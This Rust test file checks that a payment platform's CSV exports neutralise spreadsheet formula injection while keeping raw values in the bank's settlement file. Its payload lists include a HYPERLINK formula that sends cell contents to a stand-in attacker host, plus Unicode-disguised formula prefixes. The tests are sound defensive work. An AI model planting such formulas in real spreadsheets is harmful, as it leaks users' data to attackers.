//! CSV files that people open: what somebody typed is never a formula in them, and figures stay
//! figures. The bank's file says what was typed, byte by byte.

use sharepass::infra::sheet::{Cell, Sheet, guarded, unguarded};
use sharepass::worker::Tick;

use crate::support::{Network, code, on_both, text};

/// What a spreadsheet takes for a formula, or some program does.
const FORMULAS: [&str; 24] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "|cmd",
    "%1",
    " =1+1",
    "\u{3000}=1+1",
    "\u{a0}+1",
    "\t=1",
    "\ta",
    "\ra",
    "\na",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(1)",
    "﹦1",
    "\u{2212}1",
    "\u{2013}1",
    "\u{200b}=1+1",
    "\u{feff}=1",
    "\u{202e}=1",
    "\u{200b} \u{200d}@x",
];

#[test]
fn a_text_is_never_a_formula_and_comes_back_as_it_was() {
    for formula in FORMULAS {
        assert_eq!(guarded(formula), format!("'{formula}"));
        assert_eq!(unguarded(&guarded(formula)), formula);
    }
    for plain in
        ["", "拿铁", "a=b", "1-2", "O'Brien", "'t Hof", "12.50", " a", "#1", "~x", "\"=1\""]
    {
        assert_eq!(guarded(plain), plain);
        assert_eq!(unguarded(plain), plain);
    }
    // What looks as if it were guarded is told apart, too.
    for odd in ["'=1", "'1", "''", "'"] {
        assert_eq!(unguarded(&guarded(odd)), odd);
    }
    // As other programs mark a number that is a text.
    assert_eq!(unguarded("'6901234567892"), "6901234567892");

    let mut sheet = Sheet::new(["name", "amount"]).expect("a sheet");
    sheet.row([Cell::text("=1;\"a\"\n-b"), Cell::yuan(-1_250)]).expect("a row");
    sheet.row([Cell::empty(), Cell::count(-3)]).expect("a row");
    let written = sheet.finish().expect("a file");
    assert_eq!(written, "name,amount\n\"'=1;\"\"a\"\"\n-b\",-12.50\n,-3\n");
}

/// Names that merchants registered with, to see whether they run.
const NAMES: [&str; 4] =
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "＝1+1", "-2+3", "@SUM(1)"];

fn rows(file: &str) -> Vec<csv::StringRecord> {
    let mut lines = csv::Reader::from_reader(file.as_bytes());
    lines.records().map(|row| row.expect("a row")).collect()
}

#[tokio::test]
async fn the_file_of_a_cycle_runs_nothing_and_the_banks_file_is_byte_exact() {
    on_both(async |network: &Network| {
        let home = network.merchant("乙面包").await;
        let plan = home.plan("1000.00", "0.00").await;
        let alice = network.customer("Alice").await;
        alice.join(network, &plan).await;
        for name in NAMES {
            let owner = network.merchant(name).await;
            owner.is_paid_to("6222020200112233445").await;
            let offer = owner.priced(&format!("拿铁 {}", network.number()), "40.00", "30.00").await;
            let order = alice.bought(network, &owner.shop, &offer).await;
            assert_eq!(code(&owner.accept(&order).await), "DONE");
        }
        let cycle = network.clear().await;
        network.run(Tick::Clearing).await;

        let written = rows(&text(&cycle["csv"]));
        for name in NAMES {
            let guarded = format!("'{name}");
            assert!(written.iter().any(|row| &row[2] == guarded.as_str()), "{name}: {written:?}");
        }
        for row in &written {
            for figure in row.iter().skip(3).take(7) {
                assert!(figure.parse::<rust_decimal::Decimal>().is_ok(), "{figure} in {row:?}");
            }
        }
        let number = cycle["number"].as_i64().expect("a number");
        let path = format!("{}/out/settlement-{number:06}.csv", network.app.config.bank_folder);
        let told = rows(&std::fs::read_to_string(path).expect("a file for the bank"));
        for name in NAMES {
            assert!(told.iter().any(|row| &row[4] == name), "{name}: {told:?}");
        }
    })
    .await;
}
